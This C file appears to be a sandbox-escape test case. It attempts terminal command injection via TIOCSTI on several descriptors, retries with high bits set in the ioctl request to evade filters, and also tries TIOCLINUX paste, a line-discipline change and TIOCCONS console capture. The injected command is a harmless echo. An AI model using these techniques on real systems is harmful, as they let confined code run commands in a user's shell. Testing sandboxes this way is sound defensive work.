// Types into the terminal that it shares with the user's shell: what it types runs outside later.
// class: OS sandboxes: TIOCSTI on the terminal
// plain: message
// act: terminal
#include "attack.h"

int main(int argc, char** argv) {
  (void)argc;
  attack(argv);
  const char* line = "echo typed by the attack\n";
  const int fds[] = {0, 1, open("/dev/tty", O_RDWR), open("/proc/self/fd/0", O_RDWR | O_NOCTTY)};
  for (unsigned i = 0; i < sizeof fds / sizeof *fds; ++i)
    for (const char* at = line; *at; ++at) {
      if (ioctl(fds[i], TIOCSTI, at) != 0) {
        if (at == line) refused("TIOCSTI");
        // The kernel looks at the lower half of the register only.
        if (syscall(SYS_ioctl, (long)fds[i], 0xdead00000000UL | TIOCSTI, at) != 0) {
          refused("TIOCSTI with high bits");
          break;
        }
      }
    }
  char select[] = {3 /* paste selection */, 0};
  if (ioctl(0, TIOCLINUX, select) == 0) effect("TIOCLINUX");
  int discipline = 2;
  if (ioctl(0, TIOCSETD, &discipline) == 0) effect("line discipline");
  if (ioctl(0, TIOCCONS) == 0) effect("console output taken");
  return 0;
}
